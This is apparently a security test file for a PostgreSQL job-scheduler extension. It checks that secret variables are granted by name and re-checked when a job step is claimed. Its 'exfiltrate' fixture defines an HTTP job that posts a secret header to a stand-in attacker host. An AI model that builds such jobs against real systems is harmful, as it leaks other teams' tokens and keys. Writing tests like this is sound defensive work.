// Supervisor secrets are granted by name: a role allowed network built-ins cannot name a
// CLOCKWORK_SECRET_* variable it was not granted (another team's token, an alert channel's
// signing key) and have the supervisor send it to a server of its choosing. The grant is
// checked when the job is defined and again when its step is claimed.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import type pg from "pg";
import { SQLSTATE } from "../../extension/src/core/errors.ts";
import { adminQuery, type TestDatabase } from "../support/db.ts";
import { clockworkDatabase, registerWorker, sqlErrorOf, tick } from "./helpers.ts";

const ATTACKER = "cw_secret_thief";
const TEAM = "cw_secret_team";

describe("secrets granted by name", () => {
  let db: TestDatabase;
  let thief: pg.Client;
  const exfiltrate = (secret: string) => ({
    name: "exfiltrate",
    steps: { post: { builtin: "http", args: { url: "https://attacker.example/collect", method: "POST", secret_headers: { "X-Loot": secret } } } },
  });

  before(async () => {
    db = await clockworkDatabase();
    await adminQuery(`DO $$ BEGIN CREATE ROLE ${ATTACKER} LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$`);
    await adminQuery(`DO $$ BEGIN CREATE ROLE ${TEAM} NOLOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$`);
    await adminQuery(`GRANT clockwork_network TO ${ATTACKER}`);
    await db.query(`GRANT USAGE ON SCHEMA public TO ${ATTACKER}`);
    thief = await db.connect({ user: ATTACKER });
    await registerWorker(db.pool, "w1");
  });
  after(async () => {
    await db.drop();
  });

  test("a secret not granted to the defining role is refused at definition time, with its path, and nothing is stored", async () => {
    const e = await sqlErrorOf(thief, "select clockwork.define_job($1::jsonb)", [JSON.stringify(exfiltrate("CLOCKWORK_SECRET_OPS"))]);
    assert.equal(e.code, SQLSTATE.secret_not_granted);
    assert.equal(e.message, `steps.post.args.secret_headers.X-Loot: CLOCKWORK_SECRET_OPS is not granted to role "${ATTACKER}": an administrator grants it with clockwork.grant_secret`);
    assert.equal((await db.query("select count(*)::int as n from clockwork.jobs where name = 'exfiltrate'")).rows[0].n, 0);
  });

  test("only administrators grant and revoke; a grant to a group role serves its members, one to public serves all", async () => {
    let e = await sqlErrorOf(thief, "select clockwork.grant_secret('CLOCKWORK_SECRET_OPS', $1)", [ATTACKER]);
    assert.equal(e.code, SQLSTATE.not_an_admin);
    e = await sqlErrorOf(db, "select clockwork.grant_secret('PGPASSWORD', $1)", [ATTACKER]);
    assert.equal(e.code, SQLSTATE.secret_in_definition);
    e = await sqlErrorOf(db, "select clockwork.grant_secret('CLOCKWORK_SECRET_OPS', 'no_such_role_here')");
    assert.equal(e.code, SQLSTATE.invalid_argument);
    assert.equal(e.message, 'role "no_such_role_here" does not exist');

    await db.query("select clockwork.grant_secret('CLOCKWORK_SECRET_TEAM_TOKEN', $1)", [TEAM]);
    e = await sqlErrorOf(thief, "select clockwork.define_job($1::jsonb)", [JSON.stringify(exfiltrate("CLOCKWORK_SECRET_TEAM_TOKEN"))]);
    assert.equal(e.code, SQLSTATE.secret_not_granted, "not a member of the team yet");
    await adminQuery(`GRANT ${TEAM} TO ${ATTACKER}`);
    await thief.query("select clockwork.define_job($1::jsonb)", [JSON.stringify({ ...exfiltrate("CLOCKWORK_SECRET_TEAM_TOKEN"), name: "team-call" })]);
    await adminQuery(`REVOKE ${TEAM} FROM ${ATTACKER}`);

    await db.query("select clockwork.grant_secret('CLOCKWORK_SECRET_PUBLIC_API', 'PUBLIC')");
    await thief.query("select clockwork.define_job($1::jsonb)", [JSON.stringify({ ...exfiltrate("CLOCKWORK_SECRET_PUBLIC_API"), name: "public-call" })]);
    const grants = (await thief.query("select secret, grantee::text from clockwork.secret_grants order by secret")).rows;
    assert.deepEqual(grants, [
      { secret: "CLOCKWORK_SECRET_PUBLIC_API", grantee: "public" },
      { secret: "CLOCKWORK_SECRET_TEAM_TOKEN", grantee: TEAM },
    ], "names and grantees, readable by all (never a value)");
    e = await sqlErrorOf(thief, "select clockwork.revoke_secret('CLOCKWORK_SECRET_PUBLIC_API', 'public')");
    assert.equal(e.code, SQLSTATE.not_an_admin);
  });

  test("a superuser may name any secret", async () => {
    await db.query("select clockwork.define_job($1::jsonb)", [JSON.stringify({ ...exfiltrate("CLOCKWORK_SECRET_ANYTHING"), name: "admins-call" })]);
  });

  test("a grant withdrawn after the job was defined stops its step when claimed, before a supervisor reads the secret", async () => {
    await db.query("select clockwork.grant_secret('CLOCKWORK_SECRET_REPORTS', $1)", [ATTACKER]);
    await thief.query("select clockwork.define_job($1::jsonb)", [JSON.stringify({ ...exfiltrate("CLOCKWORK_SECRET_REPORTS"), name: "reports-call" })]);
    assert.equal((await db.query("select clockwork.revoke_secret('CLOCKWORK_SECRET_REPORTS', $1) as r", [ATTACKER])).rows[0].r, true);
    const run = String((await thief.query("select clockwork.run_now('reports-call') as id")).rows[0].id);
    const t = await tick(db.pool, "w1", new Date());
    assert.equal(t.claimed.filter((c) => c.job === "reports-call").length, 0, "not handed to the supervisor");
    const [step] = (await db.query("select state, error from clockwork.step_runs where run_id = $1", [run])).rows;
    assert.deepEqual(step, { state: "failed", error: `CLOCKWORK_SECRET_REPORTS is no longer granted to role "${ATTACKER}" (clockwork.grant_secret)` });
    // team-call was defined while a member of the team; the membership is gone now.
    const teamRun = String((await thief.query("select clockwork.run_now('team-call') as id")).rows[0].id);
    await tick(db.pool, "w1", new Date());
    assert.equal((await db.query("select state from clockwork.step_runs where run_id = $1", [teamRun])).rows[0].state, "failed");
    // Still granted to public: handed out.
    await thief.query("select clockwork.run_now('public-call')");
    const ok = await tick(db.pool, "w1", new Date());
    assert.equal(ok.claimed.filter((c) => c.job === "public-call").length, 1);
  });
});
